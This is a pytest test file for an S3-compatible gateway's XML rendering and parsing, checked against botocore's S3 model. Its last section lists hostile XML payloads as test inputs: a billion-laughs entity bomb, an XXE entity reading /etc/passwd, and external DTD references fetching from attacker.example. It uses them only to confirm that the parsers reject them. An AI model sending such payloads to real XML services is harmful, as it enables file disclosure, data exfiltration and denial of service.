"""XML bodies: exact strings, element order, client compatibility, hostile payloads.

Element order and client decoding are checked against botocore's copy of the S3 API model and
its REST-XML parser and serializer, which are what boto3 and the aws CLI run.
"""

import calendar
import xml.etree.ElementTree as ET
from urllib.parse import unquote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.s3 import xml as s3xml
from gateway.s3.errors import S3Error
from gateway.s3.xml import ObjectInfo, ObjectParts, Owner, PartInfo, UploadInfo

DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
NS = 'xmlns="http://s3.amazonaws.com/doc/2006-03-01/"'
T2009 = calendar.timegm((2009, 10, 12, 17, 50, 30))
OWNER = Owner("75aa57f09aa0c8caeab4f8c24e99d10f8e7faeebf76c078efc7c6caea54ba06a",
              "mtd@amazon.com")


def _xml(text: str) -> bytes:
    return (DECL + text).encode()


# --- exact strings (values from the AWS API reference samples) -------------------------------

def test_initiate_multipart_upload_result_exact():
    body = s3xml.initiate_multipart_upload_result(
        bucket="example-bucket", key="example-object",
        upload_id="VXBsb2FkIElEIGZvciA2aWWpbmcncyBteS1tb3ZpZS5tMnRzIHVwbG9hZA")
    assert body == _xml(
        f"<InitiateMultipartUploadResult {NS}><Bucket>example-bucket</Bucket>"
        "<Key>example-object</Key>"
        "<UploadId>VXBsb2FkIElEIGZvciA2aWWpbmcncyBteS1tb3ZpZS5tMnRzIHVwbG9hZA</UploadId>"
        "</InitiateMultipartUploadResult>")


def test_list_objects_v2_result_exact():
    body = s3xml.list_bucket_result(
        name="bucket", prefix="", delimiter=None, max_keys=1000, is_truncated=False,
        contents=[ObjectInfo("my-image.jpg", T2009, "fba9dede5f27731c9771645a39863328", 434234)],
        common_prefixes=[], encoding_type=None, v2=True)
    assert body == _xml(
        f"<ListBucketResult {NS}><IsTruncated>false</IsTruncated>"
        "<Contents><Key>my-image.jpg</Key><LastModified>2009-10-12T17:50:30.000Z</LastModified>"
        '<ETag>"fba9dede5f27731c9771645a39863328"</ETag><Size>434234</Size>'
        "<StorageClass>STANDARD</StorageClass></Contents>"
        "<Name>bucket</Name><Prefix></Prefix><MaxKeys>1000</MaxKeys><KeyCount>1</KeyCount>"
        "</ListBucketResult>")


def test_list_objects_v1_result_exact_with_owner_and_prefixes():
    body = s3xml.list_bucket_result(
        name="quotes", prefix="N", delimiter="/", max_keys=40, is_truncated=True,
        contents=[ObjectInfo("Nelson", T2009, "828ef3fdfa96f00ad9f27c383fc9ac7f", 5,
                             owner=OWNER)],
        common_prefixes=["Neo/"], encoding_type=None, marker="Ned", next_marker="Neo/")
    assert body == _xml(
        f"<ListBucketResult {NS}><IsTruncated>true</IsTruncated><Marker>Ned</Marker>"
        "<NextMarker>Neo/</NextMarker><Contents><Key>Nelson</Key>"
        "<LastModified>2009-10-12T17:50:30.000Z</LastModified>"
        '<ETag>"828ef3fdfa96f00ad9f27c383fc9ac7f"</ETag><Size>5</Size>'
        "<StorageClass>STANDARD</StorageClass><Owner><DisplayName>mtd@amazon.com</DisplayName>"
        f"<ID>{OWNER.id}</ID></Owner></Contents><Name>quotes</Name><Prefix>N</Prefix>"
        "<Delimiter>/</Delimiter><MaxKeys>40</MaxKeys>"
        "<CommonPrefixes><Prefix>Neo/</Prefix></CommonPrefixes></ListBucketResult>")


def test_list_objects_v1_always_has_marker():
    body = s3xml.list_bucket_result(name="b", prefix="", delimiter=None, max_keys=1000,
                                    is_truncated=False, contents=[], common_prefixes=[],
                                    encoding_type=None)
    assert body == _xml(f"<ListBucketResult {NS}><IsTruncated>false</IsTruncated>"
                        "<Marker></Marker><Name>b</Name><Prefix></Prefix>"
                        "<MaxKeys>1000</MaxKeys></ListBucketResult>")


def test_delete_result_exact():
    body = s3xml.delete_result(deleted=["sample1.txt"],
                               errors=[("sample2.txt", "AccessDenied", "Access Denied")])
    assert body == _xml(
        f"<DeleteResult {NS}><Deleted><Key>sample1.txt</Key></Deleted>"
        "<Error><Key>sample2.txt</Key><Code>AccessDenied</Code><Message>Access Denied</Message>"
        "</Error></DeleteResult>")
    assert s3xml.delete_result(deleted=[], errors=[]) == \
        _xml(f"<DeleteResult {NS}></DeleteResult>")


@pytest.mark.parametrize(("region", "text"), [("us-east-1", ""), ("eu-west-1", "eu-west-1")])
def test_location_constraint_exact(region, text):
    assert s3xml.location_constraint(region=region) == \
        _xml(f"<LocationConstraint {NS}>{text}</LocationConstraint>")


def test_small_configuration_documents_exact():
    assert s3xml.versioning_configuration() == \
        _xml(f"<VersioningConfiguration {NS}></VersioningConfiguration>")
    assert s3xml.request_payment_configuration() == \
        _xml(f"<RequestPaymentConfiguration {NS}><Payer>BucketOwner</Payer>"
             "</RequestPaymentConfiguration>")
    assert s3xml.tagging(tags=[]) == _xml(f"<Tagging {NS}><TagSet></TagSet></Tagging>")
    assert s3xml.tagging(tags=[("Key4", "Value4")]) == _xml(
        f"<Tagging {NS}><TagSet><Tag><Key>Key4</Key><Value>Value4</Value></Tag></TagSet>"
        "</Tagging>")


def test_copy_results_exact():
    t = calendar.timegm((2009, 10, 28, 22, 32, 0))
    assert s3xml.copy_object_result(etag="9b2cf535f27731c974343645a3985328",
                                    last_modified=t) == _xml(
        f'<CopyObjectResult {NS}><ETag>"9b2cf535f27731c974343645a3985328"</ETag>'
        "<LastModified>2009-10-28T22:32:00.000Z</LastModified></CopyObjectResult>")
    assert s3xml.copy_part_result(etag="b20b0f82", last_modified=t,
                                  checksums={"SHA256": "s", "CRC32": "c"}) == _xml(
        f'<CopyPartResult {NS}><ETag>"b20b0f82"</ETag>'
        "<LastModified>2009-10-28T22:32:00.000Z</LastModified>"
        "<ChecksumCRC32>c</ChecksumCRC32><ChecksumSHA256>s</ChecksumSHA256></CopyPartResult>")


def test_complete_multipart_upload_result_exact():
    body = s3xml.complete_multipart_upload_result(
        location="http://Example-Bucket.s3.Region.amazonaws.com/Example-Object",
        bucket="Example-Bucket", key="Example-Object",
        etag="3858f62230ac3c915f300c664312c11f-9", checksums={"CRC32": "AAAAAA==-9"},
        checksum_type="COMPOSITE")
    assert body == _xml(
        f"<CompleteMultipartUploadResult {NS}>"
        "<Location>http://Example-Bucket.s3.Region.amazonaws.com/Example-Object</Location>"
        "<Bucket>Example-Bucket</Bucket><Key>Example-Object</Key>"
        '<ETag>"3858f62230ac3c915f300c664312c11f-9"</ETag>'
        "<ChecksumCRC32>AAAAAA==-9</ChecksumCRC32><ChecksumType>COMPOSITE</ChecksumType>"
        "</CompleteMultipartUploadResult>")


def test_access_control_policy_exact():
    body = s3xml.access_control_policy(
        owner=OWNER, grants=[(OWNER, "FULL_CONTROL"),
                             ("http://acs.amazonaws.com/groups/global/AllUsers", "READ")])
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    owner = f"<DisplayName>mtd@amazon.com</DisplayName><ID>{OWNER.id}</ID>"
    assert body == _xml(
        f"<AccessControlPolicy {NS}><Owner>{owner}</Owner><AccessControlList>"
        f'<Grant><Grantee {xsi} xsi:type="CanonicalUser">{owner}</Grantee>'
        "<Permission>FULL_CONTROL</Permission></Grant>"
        f'<Grant><Grantee {xsi} xsi:type="Group">'
        "<URI>http://acs.amazonaws.com/groups/global/AllUsers</URI></Grantee>"
        "<Permission>READ</Permission></Grant></AccessControlList></AccessControlPolicy>")


def test_get_object_attributes_etag_is_unquoted():
    body = s3xml.get_object_attributes_response(etag="d41d8cd98f00b204e9800998ecf8427e",
                                                object_size=0, storage_class="STANDARD")
    assert body == _xml(
        f"<GetObjectAttributesResponse {NS}><ETag>d41d8cd98f00b204e9800998ecf8427e</ETag>"
        "<StorageClass>STANDARD</StorageClass><ObjectSize>0</ObjectSize>"
        "</GetObjectAttributesResponse>")


def test_values_are_escaped_and_carriage_returns_survive_parsing():
    body = s3xml.tagging(tags=[("a<&>\"'", "line1\r\nline2\r")])
    assert b"&#13;" in body and b"\r" not in body
    tag = ET.fromstring(body).find(".//{http://s3.amazonaws.com/doc/2006-03-01/}Tag")
    assert [c.text for c in tag] == ["a<&>\"'", "line1\r\nline2\r"]


def test_unknown_checksum_algorithm_is_a_programming_error():
    with pytest.raises(ValueError):
        s3xml.copy_part_result(etag="e", last_modified=0, checksums={"MD4": "x"})


# --- encoding-type=url -----------------------------------------------------------------------

def _texts(body: bytes, tag: str) -> list[str]:
    root = ET.fromstring(body)
    return [e.text or "" for e in root.iter(f"{{http://s3.amazonaws.com/doc/2006-03-01/}}{tag}")]


def test_url_encoding_type_encodes_keys_prefixes_markers():
    body = s3xml.list_bucket_result(
        name="b", prefix="a+b c/", delimiter=" ", max_keys=2, is_truncated=True,
        contents=[ObjectInfo("a+b c/\u00fc\u2713", 0, "e", 1)],
        common_prefixes=["a+b c/x y "], encoding_type="url", v2=True,
        start_after="a+b", continuation_token="tok+en", next_continuation_token="n+t")
    assert _texts(body, "Key") == ["a%2Bb%20c/%C3%BC%E2%9C%93"]
    assert _texts(body, "Prefix") == ["a%2Bb%20c/", "a%2Bb%20c/x%20y%20"]
    assert _texts(body, "Delimiter") == ["%20"]
    assert _texts(body, "StartAfter") == ["a%2Bb"]
    assert _texts(body, "EncodingType") == ["url"]
    # Continuation tokens are opaque, never encoded.
    assert _texts(body, "ContinuationToken") == ["tok+en"]
    assert _texts(body, "NextContinuationToken") == ["n+t"]
    v1 = s3xml.list_bucket_result(name="b", prefix=None, delimiter=None, max_keys=1,
                                  is_truncated=True, contents=[], common_prefixes=[],
                                  encoding_type="url", marker="m+1", next_marker="n 2")
    assert (_texts(v1, "Marker"), _texts(v1, "NextMarker")) == (["m%2B1"], ["n%202"])


def test_url_encoding_in_versions_and_uploads_listings():
    versions = s3xml.list_versions_result(
        name="b", prefix="p+", delimiter=None, max_keys=1, is_truncated=False,
        versions=[ObjectInfo("k +", 0, "e", 1)], common_prefixes=[], encoding_type="url",
        key_marker="m +")
    assert _texts(versions, "Key") == ["k%20%2B"]
    assert _texts(versions, "KeyMarker") == ["m%20%2B"]
    uploads = s3xml.list_multipart_uploads_result(
        bucket="b", key_marker="a b", upload_id_marker=None, next_key_marker="c+d",
        next_upload_id_marker="u", prefix="", delimiter="/", max_uploads=1000,
        is_truncated=True, uploads=[UploadInfo("x y", "u1", 0)], common_prefixes=["q r/"],
        encoding_type="url")
    assert _texts(uploads, "Key") == ["x%20y"]
    assert (_texts(uploads, "KeyMarker"), _texts(uploads, "NextKeyMarker")) == \
        (["a%20b"], ["c%2Bd"])
    assert _texts(uploads, "Prefix") == ["", "q%20r/"]


keys = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=100)


@given(keys)
def test_url_encoded_keys_decode_with_unquote_plus(key):
    body = s3xml.list_bucket_result(name="b", prefix=key, delimiter=None, max_keys=1,
                                    is_truncated=False, contents=[ObjectInfo(key, 0, "e", 1)],
                                    common_prefixes=[key], encoding_type="url", v2=True)
    texts = _texts(body, "Key") + _texts(body, "Prefix")
    assert [unquote_plus(t) for t in texts] == [key, key, key]


xml_chars = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")


@given(st.text(xml_chars, min_size=1, max_size=100) | st.sampled_from(["a\r\nb", "\tx\n"]))
def test_unencoded_keys_round_trip_through_an_xml_parser(key):
    body = s3xml.list_bucket_result(name="b", prefix="", delimiter=None, max_keys=1,
                                    is_truncated=False, contents=[ObjectInfo(key, 0, "e", 1)],
                                    common_prefixes=[], encoding_type=None, v2=True)
    assert _texts(body, "Key") == [key]


# --- order and decoding as boto3 sees them ---------------------------------------------------

@pytest.fixture(scope="module")
def s3_model():
    botocore = pytest.importorskip("botocore.session")
    return botocore.get_session().get_service_model("s3")


def _local(tag: str) -> str:
    return tag.rpartition("}")[2]


def _check_order(element, shape):
    """Children appear in the model's member order and are all members of the shape."""
    names = []
    for member_name, member in shape.members.items():
        if member.serialization.get("location"):
            continue
        names.append((member.serialization.get("name", member_name), member))
    order = [n for n, _ in names]
    positions = []
    for child in element:
        tag = _local(child.tag)
        assert tag in order, f"<{tag}> is not a member of {shape.name}"
        positions.append(order.index(tag))
        member = dict(names)[tag]
        if member.type_name == "structure":
            _check_order(child, member)
        elif member.type_name == "list":
            item = member.member
            if member.serialization.get("flattened"):
                if item.type_name == "structure":
                    _check_order(child, item)
            else:
                item_name = item.serialization.get("name", "member")
                for sub in child:
                    assert _local(sub.tag) == item_name
                    if item.type_name == "structure":
                        _check_order(sub, item)
    assert positions == sorted(positions), \
        f"{shape.name}: {[_local(c.tag) for c in element]} not in model order {order}"


def _parse_output(s3_model, operation, body):
    import botocore.parsers

    shape = s3_model.operation_model(operation).output_shape
    return botocore.parsers.create_parser("rest-xml").parse(
        {"body": body, "headers": {}, "status_code": 200}, shape)


PART = PartInfo(1, T2009, "7778aef83f66abc1fa1e8477f296d394", 10485760,
                {"CRC32": "AAAAAA==", "SHA256": "c2hh"})
RENDERED = {
    "ListBuckets": lambda: s3xml.list_all_my_buckets_result(
        owner=OWNER, buckets=[("amzn-s3-demo-bucket", T2009), ("b2", T2009 + 1)]),
    "ListObjects": lambda: s3xml.list_bucket_result(
        name="b", prefix="p", delimiter="/", max_keys=2, is_truncated=True,
        contents=[ObjectInfo("p1", T2009, "e1", 1, owner=OWNER, checksum_algorithm="CRC32")],
        common_prefixes=["p/"], encoding_type="url", marker="m", next_marker="n"),
    "ListObjectsV2": lambda: s3xml.list_bucket_result(
        name="b", prefix="p", delimiter="/", max_keys=2, is_truncated=True,
        contents=[ObjectInfo("p1", T2009, "e1", 1, owner=OWNER, checksum_algorithm="CRC32")],
        common_prefixes=["p/"], encoding_type="url", v2=True, continuation_token="c",
        next_continuation_token="n", start_after="s"),
    "ListObjectVersions": lambda: s3xml.list_versions_result(
        name="b", prefix="p", delimiter="/", max_keys=2, is_truncated=True,
        versions=[ObjectInfo("p1", T2009, "e1", 1, owner=OWNER)], common_prefixes=["p/"],
        encoding_type="url", key_marker="k", version_id_marker="null",
        next_key_marker="p1", next_version_id_marker="null"),
    "GetBucketVersioning": s3xml.versioning_configuration,
    "GetBucketRequestPayment": s3xml.request_payment_configuration,
    "CopyObject": lambda: s3xml.copy_object_result(
        etag="e", last_modified=T2009, checksums={"CRC32C": "c"}, checksum_type="FULL_OBJECT"),
    "UploadPartCopy": lambda: s3xml.copy_part_result(etag="e", last_modified=T2009,
                                                     checksums={"SHA1": "s"}),
    "CreateMultipartUpload": lambda: s3xml.initiate_multipart_upload_result(
        bucket="b", key="k", upload_id="u"),
    "CompleteMultipartUpload": lambda: s3xml.complete_multipart_upload_result(
        location="http://h/b/k", bucket="b", key="k", etag="e-2",
        checksums={"CRC32": "x-2", "CRC64NVME": "y"}, checksum_type="COMPOSITE"),
    "ListParts": lambda: s3xml.list_parts_result(
        bucket="b", key="k", upload_id="u", part_number_marker=0, next_part_number_marker=1,
        max_parts=1, is_truncated=True, parts=[PART], owner=OWNER, checksum_algorithm="CRC32",
        checksum_type="COMPOSITE"),
    "ListMultipartUploads": lambda: s3xml.list_multipart_uploads_result(
        bucket="b", key_marker="", upload_id_marker="", next_key_marker="k",
        next_upload_id_marker="u", prefix="", delimiter="/", max_uploads=1, is_truncated=True,
        uploads=[UploadInfo("k", "u", T2009, OWNER)], common_prefixes=["d/"],
        encoding_type=None),
    "DeleteObjects": lambda: s3xml.delete_result(
        deleted=["a", "b"], errors=[("c", "AccessDenied", "Access Denied")]),
    "GetObjectTagging": lambda: s3xml.tagging(tags=[("k1", "v1"), ("k2", "")]),
    "GetBucketAcl": lambda: s3xml.access_control_policy(
        owner=OWNER, grants=[(OWNER, "FULL_CONTROL"),
                             ("http://acs.amazonaws.com/groups/global/AllUsers", "READ")]),
    "GetObjectAttributes": lambda: s3xml.get_object_attributes_response(
        etag="e", checksums={"CRC32": "c-2"}, checksum_type="COMPOSITE", object_size=20,
        storage_class="STANDARD",
        parts=ObjectParts(parts_count=2, part_number_marker=0, next_part_number_marker=1,
                          max_parts=1, is_truncated=True, parts=[PART])),
}


@pytest.mark.parametrize("operation", sorted(RENDERED))
def test_elements_follow_the_aws_model_order(s3_model, operation):
    body = RENDERED[operation]()
    assert body.startswith(DECL.encode())
    root = ET.fromstring(body)
    assert root.tag.startswith("{http://s3.amazonaws.com/doc/2006-03-01/}")
    output = s3_model.operation_model(operation).output_shape
    payload = output.serialization.get("payload")
    _check_order(root, output.members[payload] if payload else output)


def test_boto3_decodes_list_objects_v2(s3_model):
    out = _parse_output(s3_model, "ListObjectsV2", RENDERED["ListObjectsV2"]())
    assert out["IsTruncated"] is True and out["KeyCount"] == 2 and out["MaxKeys"] == 2
    (obj,) = out["Contents"]
    assert (obj["Key"], obj["ETag"], obj["Size"], obj["ChecksumAlgorithm"]) == \
        ("p1", '"e1"', 1, ["CRC32"])
    assert obj["LastModified"].timestamp() == T2009
    assert obj["Owner"] == {"DisplayName": OWNER.display_name, "ID": OWNER.id}
    assert out["CommonPrefixes"] == [{"Prefix": "p/"}]
    assert (out["NextContinuationToken"], out["StartAfter"]) == ("n", "s")


def test_boto3_decodes_list_parts_and_uploads(s3_model):
    parts = _parse_output(s3_model, "ListParts", RENDERED["ListParts"]())
    assert parts["Parts"][0]["ETag"] == '"7778aef83f66abc1fa1e8477f296d394"'
    assert parts["Parts"][0]["ChecksumSHA256"] == "c2hh"
    assert (parts["NextPartNumberMarker"], parts["Initiator"]["ID"]) == (1, OWNER.id)
    uploads = _parse_output(s3_model, "ListMultipartUploads", RENDERED["ListMultipartUploads"]())
    assert [(u["Key"], u["UploadId"]) for u in uploads["Uploads"]] == [("k", "u")]
    assert uploads["Uploads"][0]["Initiated"].timestamp() == T2009


def test_boto3_decodes_versions_buckets_acl_attributes(s3_model):
    versions = _parse_output(s3_model, "ListObjectVersions", RENDERED["ListObjectVersions"]())
    (v,) = versions["Versions"]
    assert (v["VersionId"], v["IsLatest"], v["Key"]) == ("null", True, "p1")
    buckets = _parse_output(s3_model, "ListBuckets", RENDERED["ListBuckets"]())
    assert [b["Name"] for b in buckets["Buckets"]] == ["amzn-s3-demo-bucket", "b2"]
    acl = _parse_output(s3_model, "GetBucketAcl", RENDERED["GetBucketAcl"]())
    assert [g["Grantee"]["Type"] for g in acl["Grants"]] == ["CanonicalUser", "Group"]
    attrs = _parse_output(s3_model, "GetObjectAttributes", RENDERED["GetObjectAttributes"]())
    assert (attrs["ETag"], attrs["ObjectSize"], attrs["ObjectParts"]["TotalPartsCount"]) == \
        ("e", 20, 2)
    deleted = _parse_output(s3_model, "DeleteObjects", RENDERED["DeleteObjects"]())
    assert [d["Key"] for d in deleted["Deleted"]] == ["a", "b"]
    assert deleted["Errors"] == [{"Key": "c", "Code": "AccessDenied", "Message": "Access Denied"}]


# --- parsers: bodies as boto3 sends them -----------------------------------------------------

def _request_body(s3_model, operation, params):
    import botocore.serialize

    request = botocore.serialize.create_serializer("rest-xml").serialize_to_request(
        params, s3_model.operation_model(operation))
    return request["body"]


def test_parse_delete_of_boto3_body(s3_model):
    body = _request_body(s3_model, "DeleteObjects", {"Bucket": "b", "Delete": {
        "Objects": [{"Key": " spaced "}, {"Key": "v", "VersionId": "null"}, {"Key": "a&<b"}],
        "Quiet": True}})
    assert s3xml.parse_delete(body) == (True, [(" spaced ", None), ("v", "null"),
                                               ("a&<b", None)])


def test_parse_complete_multipart_upload_of_boto3_body(s3_model):
    body = _request_body(s3_model, "CompleteMultipartUpload", {
        "Bucket": "b", "Key": "k", "UploadId": "u", "MultipartUpload": {"Parts": [
            {"PartNumber": 1, "ETag": '"aaa"', "ChecksumCRC32": "AAAAAA=="},
            {"PartNumber": 2, "ETag": "bbb"}]}})
    assert s3xml.parse_complete_multipart_upload(body) == \
        [(1, "aaa", {"CRC32": "AAAAAA=="}), (2, "bbb", {})]


def test_parse_tagging_versioning_create_bucket_of_boto3_bodies(s3_model):
    tags = [("k1", "v1"), ("k2", "")]
    body = _request_body(s3_model, "PutObjectTagging", {"Bucket": "b", "Key": "k", "Tagging": {
        "TagSet": [{"Key": k, "Value": v} for k, v in tags]}})
    assert s3xml.parse_tagging(body) == tags
    body = _request_body(s3_model, "PutBucketVersioning", {
        "Bucket": "b", "VersioningConfiguration": {"Status": "Suspended"}})
    assert s3xml.parse_versioning_configuration(body) == "Suspended"
    body = _request_body(s3_model, "CreateBucket", {
        "Bucket": "b", "CreateBucketConfiguration": {"LocationConstraint": "eu-west-1"}})
    assert s3xml.parse_create_bucket_configuration(body) == "eu-west-1"


# --- parsers: exact inputs -------------------------------------------------------------------

def test_parse_delete_without_namespace_and_not_quiet():
    body = (b"<Delete><Object><Key>sample1.txt</Key></Object><Object><Key>sample2.txt</Key>"
            b"<VersionId>OYcLXagmS.WaD..oyH4KRguB95_YhLs7</VersionId></Object></Delete>")
    assert s3xml.parse_delete(body) == \
        (False, [("sample1.txt", None), ("sample2.txt", "OYcLXagmS.WaD..oyH4KRguB95_YhLs7")])


def test_parse_delete_reports_empty_key_as_empty_string():
    assert s3xml.parse_delete(b"<Delete><Object><Key></Key></Object></Delete>") == \
        (False, [("", None)])


def _delete_body(n: int) -> bytes:
    objects = "".join(f"<Object><Key>k{i}</Key></Object>" for i in range(n))
    return f"<Delete {NS}>{objects}</Delete>".encode()


def test_parse_delete_accepts_1000_keys():
    quiet, objects = s3xml.parse_delete(_delete_body(1000))
    assert len(objects) == 1000 and objects[-1] == ("k999", None)


@pytest.mark.parametrize("body", [
    _delete_body(1001),
    _delete_body(0),
    b"<Delete><Quiet>true</Quiet></Delete>",
    b"<Delete><Quiet>yes</Quiet><Object><Key>k</Key></Object></Delete>",
    b"<Delete><Object><VersionId>null</VersionId></Object></Delete>",
    b"<Delete><Object><Key>a</Key><Key>b</Key></Object></Delete>",
    b"<Delete><Object><Key><Nested/></Key></Object></Delete>",
    b"<Delete>text<Object><Key>k</Key></Object></Delete>",
    b"<Remove><Object><Key>k</Key></Object></Remove>",
    b'<Delete xmlns="http://example.com/other"><Object><Key>k</Key></Object></Delete>',
])
def test_parse_delete_refuses_bad_documents(body):
    with pytest.raises(S3Error) as info:
        s3xml.parse_delete(body)
    assert info.value.code == "MalformedXML"


def test_parse_complete_strips_quotes_and_entity_quotes():
    body = (b"<CompleteMultipartUpload><Part><PartNumber> 3 </PartNumber>"
            b"<ETag>&quot;a54357aff0632cce46d942af68356b38&quot;</ETag></Part>"
            b"<Part><PartNumber>1</PartNumber><ETag>\"0c78aef83f66abc1fa1e8477f296d394\"</ETag>"
            b"<ChecksumSHA256>c2hh</ChecksumSHA256><ChecksumCRC32C>Yw==</ChecksumCRC32C></Part>"
            b"</CompleteMultipartUpload>")
    assert s3xml.parse_complete_multipart_upload(body) == [
        (3, "a54357aff0632cce46d942af68356b38", {}),
        (1, "0c78aef83f66abc1fa1e8477f296d394", {"CRC32C": "Yw==", "SHA256": "c2hh"}),
    ]


@pytest.mark.parametrize("body", [
    b"<CompleteMultipartUpload></CompleteMultipartUpload>",
    b"<CompleteMultipartUpload/>",
    b"<CompleteMultipartUpload><Part><ETag>e</ETag></Part></CompleteMultipartUpload>",
    b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber></Part></CompleteMultipartUpload>",
    b"<CompleteMultipartUpload><Part><PartNumber>x</PartNumber><ETag>e</ETag></Part>"
    b"</CompleteMultipartUpload>",
    b"<CompleteMultipartUpload><Part><PartNumber>-1</PartNumber><ETag>e</ETag></Part>"
    b"</CompleteMultipartUpload>",
    b"",
])
def test_parse_complete_refuses_bad_documents(body):
    with pytest.raises(S3Error) as info:
        s3xml.parse_complete_multipart_upload(body)
    assert info.value.code == "MalformedXML"


def _tagging_body(tags) -> bytes:
    inner = "".join(f"<Tag><Key>{k}</Key><Value>{v}</Value></Tag>" for k, v in tags)
    return f"<Tagging><TagSet>{inner}</TagSet></Tagging>".encode()


def test_parse_tagging_limits_at_the_edge_are_accepted():
    tags = [(f"k{i}", "v") for i in range(9)] + [("K" * 128, "V" * 256)]
    assert s3xml.parse_tagging(_tagging_body(tags)) == tags
    fifty = [(f"k{i}", "v") for i in range(50)]
    assert s3xml.parse_tagging(_tagging_body(fifty), max_tags=50) == fifty
    assert s3xml.parse_tagging(b"<Tagging><TagSet></TagSet></Tagging>") == []


def test_parse_tagging_refuses_more_than_ten_tags_as_bad_request():
    with pytest.raises(S3Error) as info:
        s3xml.parse_tagging(_tagging_body([(f"k{i}", "v") for i in range(11)]))
    assert (info.value.code, info.value.status) == ("BadRequest", 400)


@pytest.mark.parametrize("tags", [
    [("K" * 129, "v")],
    [("k", "V" * 257)],
    [("k", "1"), ("k", "2")],
    [("", "v")],
])
def test_parse_tagging_refuses_invalid_tags(tags):
    with pytest.raises(S3Error) as info:
        s3xml.parse_tagging(_tagging_body(tags))
    assert (info.value.code, info.value.status) == ("InvalidTag", 400)


@pytest.mark.parametrize("body", [
    b"<Tagging></Tagging>",
    b"<Tagging><TagSet><Tag><Key>k</Key></Tag></TagSet></Tagging>",
    b"<Tagging><TagSet/><TagSet/></Tagging>",
])
def test_parse_tagging_refuses_malformed(body):
    with pytest.raises(S3Error) as info:
        s3xml.parse_tagging(body)
    assert info.value.code == "MalformedXML"


@given(st.lists(st.tuples(st.text(xml_chars, min_size=1, max_size=128),
                          st.text(xml_chars, max_size=256)),
                max_size=10, unique_by=lambda t: t[0]))
def test_tagging_render_parse_round_trip(tags):
    assert s3xml.parse_tagging(s3xml.tagging(tags=tags)) == tags


@pytest.mark.parametrize(("body", "status"), [
    (b"<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>", "Enabled"),
    (b"<VersioningConfiguration><MfaDelete>Disabled</MfaDelete></VersioningConfiguration>",
     None),
    (b"<VersioningConfiguration/>", None),
])
def test_parse_versioning_configuration(body, status):
    assert s3xml.parse_versioning_configuration(body) == status


def test_parse_versioning_refuses_unknown_status():
    with pytest.raises(S3Error) as info:
        s3xml.parse_versioning_configuration(
            b"<VersioningConfiguration><Status>On</Status></VersioningConfiguration>")
    assert info.value.code == "MalformedXML"


@pytest.mark.parametrize(("body", "region"), [
    (b"", None),
    (b"  \r\n", None),
    (b"<CreateBucketConfiguration/>", None),
    (b"<CreateBucketConfiguration><LocationConstraint></LocationConstraint>"
     b"</CreateBucketConfiguration>", None),
    (b"\xef\xbb\xbf<CreateBucketConfiguration><LocationConstraint>us-west-2"
     b"</LocationConstraint></CreateBucketConfiguration>", "us-west-2"),
])
def test_parse_create_bucket_configuration(body, region):
    assert s3xml.parse_create_bucket_configuration(body) == region


# --- hostile payloads ------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Delete><Object><Key>&lol9;</Key></Object></Delete>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Delete><Object><Key>&xxe;</Key></Object></Delete>"""

XXE_PARAMETER = b"""<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<Delete><Object><Key>k</Key></Object></Delete>"""

EXTERNAL_DTD = (b'<!doctype Delete SYSTEM "http://attacker.example/x.dtd">'
                b"<Delete><Object><Key>k</Key></Object></Delete>")

HOSTILE = [
    BILLION_LAUGHS,
    XXE,
    XXE_PARAMETER,
    EXTERNAL_DTD,
    b"<!ENTITY x 'y'><Delete><Object><Key>k</Key></Object></Delete>",
    b"<Delete><Object><Key>&undeclared;</Key></Object></Delete>",
    # The same XXE in UTF-16: the ASCII check cannot see it, so non-UTF-8 bodies are refused.
    XXE.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16"),
    b"<Delete><Object><Key>k</Key></Object>",          # not well-formed
    b"<Delete><Object><Key>k</Key></Object></Delete><Delete/>",
    b"not xml at all",
    b"\xff\xfe\x00garbage",
]


@pytest.mark.parametrize("body", HOSTILE)
@pytest.mark.parametrize("parser", [s3xml.parse_delete, s3xml.parse_complete_multipart_upload,
                                    s3xml.parse_tagging, s3xml.parse_versioning_configuration,
                                    s3xml.parse_create_bucket_configuration])
def test_hostile_and_malformed_payloads_are_malformed_xml(parser, body):
    with pytest.raises(S3Error) as info:
        parser(body)
    assert (info.value.code, info.value.status) == ("MalformedXML", 400)


@given(st.binary(max_size=200))
def test_parsers_raise_nothing_but_s3_errors(body):
    for parser in (s3xml.parse_delete, s3xml.parse_complete_multipart_upload,
                   s3xml.parse_tagging, s3xml.parse_versioning_configuration,
                   s3xml.parse_create_bucket_configuration):
        try:
            parser(body)
        except S3Error:
            pass
